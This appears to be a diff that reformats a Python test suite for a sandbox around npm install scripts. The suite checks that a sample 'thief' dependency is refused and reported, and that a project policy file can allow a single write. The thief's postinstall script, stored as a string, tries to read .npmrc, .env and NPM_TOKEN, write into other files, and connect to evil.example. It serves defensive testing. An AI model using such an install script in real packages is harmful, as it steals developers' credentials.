@@ -1,9 +1,11 @@
-"""Install scripts of dependencies are careful: an honest one works, a thief is refused and told; children of a script have no more than it has."""
+"""Install scripts of dependencies are careful: an honest one works, a thief is refused and told; children of a script
+have no more than it has."""
+
 from tests.machine.browser import Machine
 from tests.machine.registry import Registry
 
 JS = b'module.exports = 1'
-THIEF = '''
+THIEF = """
 const fs = require('fs'), cp = require('child_process'), net = require('net')
 const tried = {}
 function attempt(name, work) { try { tried[name] = String(work()).trim() } catch (error) { tried[name] = error.code || 'failed' } }
@@ -17,7 +19,7 @@ attempt('child', () => cp.execSync('cat ~/.npmrc 2>&1 || true'))
 attempt('policy', () => fs.mkdirSync(process.env.INIT_CWD + '/.terrarium'))
 attempt('own', () => { fs.writeFileSync('own.txt', 'mine'); return 'written' })
 net.connect(443, 'evil.example').on('error', (error) => { tried.host = error.code; fs.writeFileSync('tried.json', JSON.stringify(tried)) })
-'''
+"""
 
 
 def said(machine: Machine, command: str) -> str:
@@ -26,31 +28,67 @@ def said(machine: Machine, command: str) -> str:
 
 
 def test_a_thief_gets_nothing_and_is_told(machine: Machine, registry: Registry) -> None:
-    registry.publish('honest', '1.0.0', {'package/index.js': JS}, scripts={'postinstall': 'node -e "require(\'fs\').writeFileSync(\'built\', \'yes\')"'})
-    registry.publish('thief', '1.0.0', {'package/index.js': JS, 'package/steal.js': THIEF.encode()},
-                     scripts={'postinstall': 'node steal.js'}, dependencies={'honest': '1.0.0'})
-    machine.run(f'cd ~; echo "registry={registry.url}" > .npmrc; echo "secret=1" >> .npmrc; mkdir -p careful; cd careful')
+    registry.publish(
+        'honest',
+        '1.0.0',
+        {'package/index.js': JS},
+        scripts={'postinstall': "node -e \"require('fs').writeFileSync('built', 'yes')\""},
+    )
+    registry.publish(
+        'thief',
+        '1.0.0',
+        {'package/index.js': JS, 'package/steal.js': THIEF.encode()},
+        scripts={'postinstall': 'node steal.js'},
+        dependencies={'honest': '1.0.0'},
+    )
+    machine.run(
+        f'cd ~; echo "registry={registry.url}" > .npmrc; echo "secret=1" >> .npmrc; mkdir -p careful; cd careful'
+    )
     machine.run('echo "{}" > package.json; echo key > .env; echo mine > index.js')
     told = said(machine, 'NPM_TOKEN=x npm install thief')
     assert 'added 2 packages' in told
     assert 'install scripts ran: honest@1.0.0 (postinstall), thief@1.0.0 (postinstall)' in told
-    for refused in ['refused: node (postinstall of thief): read /home/user/.npmrc', 'read /home/user/careful/.env', 'write /home/user/careful/index.js',
-                    'write /home/user/careful/node_modules/honest/index.js', 'connect evil.example:443']:
+    for refused in [
+        'refused: node (postinstall of thief): read /home/user/.npmrc',
+        'read /home/user/careful/.env',
+        'write /home/user/careful/index.js',
+        'write /home/user/careful/node_modules/honest/index.js',
+        'connect evil.example:443',
+    ]:
         assert refused in told, [refused, told]
     found = machine.run('cat node_modules/thief/tried.json; echo; cat index.js node_modules/honest/built; echo')
-    for part in ['"npmrc":"EACCES"', '"env file":"EACCES"', '"token":"none"', '"project":"EACCES"', '"other package":"EACCES"', '"symlink":"EACCES"', '"policy":"EACCES"',
-                 '"own":"written"', '"host":"EACCES"', 'mine', 'yes']:
+    for part in [
+        '"npmrc":"EACCES"',
+        '"env file":"EACCES"',
+        '"token":"none"',
+        '"project":"EACCES"',
+        '"other package":"EACCES"',
+        '"symlink":"EACCES"',
+        '"policy":"EACCES"',
+        '"own":"written"',
+        '"host":"EACCES"',
+        'mine',
+        'yes',
+    ]:
         assert part in found.replace('\n', ''), [part, found]
     assert 'secret' not in found
     machine.run('cd ~/project; rm -rf ~/careful ~/.npmrc')
 
 
 def test_the_project_may_say_otherwise(machine: Machine, registry: Registry) -> None:
-    registry.publish('writer', '1.0.0', {'package/index.js': JS}, scripts={'postinstall': 'echo made > $INIT_CWD/made.txt'})
-    machine.run(f'mkdir -p ~/allowed; cd ~/allowed; echo "registry={registry.url}" > .npmrc; echo "{{}}" > package.json')
+    registry.publish(
+        'writer', '1.0.0', {'package/index.js': JS}, scripts={'postinstall': 'echo made > $INIT_CWD/made.txt'}
+    )
+    machine.run(
+        f'mkdir -p ~/allowed; cd ~/allowed; echo "registry={registry.url}" > .npmrc; echo "{{}}" > package.json'
+    )
     assert 'ermission denied' in said(machine, 'npm install writer')
-    machine.run("""mkdir -p .terrarium; echo '{"rules":[{"effect":"allow","action":"write","path":"./made.txt","package":"writer"}]}' > .terrarium/policy.json""")
-    assert 'outside of its folder: sh (postinstall of writer): write /home/user/allowed/made.txt' in said(machine, 'npm install writer')
+    machine.run(
+        """mkdir -p .terrarium; echo '{"rules":[{"effect":"allow","action":"write","path":"./made.txt","package":"writer"}]}' > .terrarium/policy.json"""
+    )
+    assert 'outside of its folder: sh (postinstall of writer): write /home/user/allowed/made.txt' in said(
+        machine, 'npm install writer'
+    )
     assert machine.run('cat made.txt') == 'made'
     machine.run('echo "{" > .terrarium/policy.json; rm -rf node_modules package-lock.json')
     assert 'EPOLICY' in said(machine, 'npm install writer')
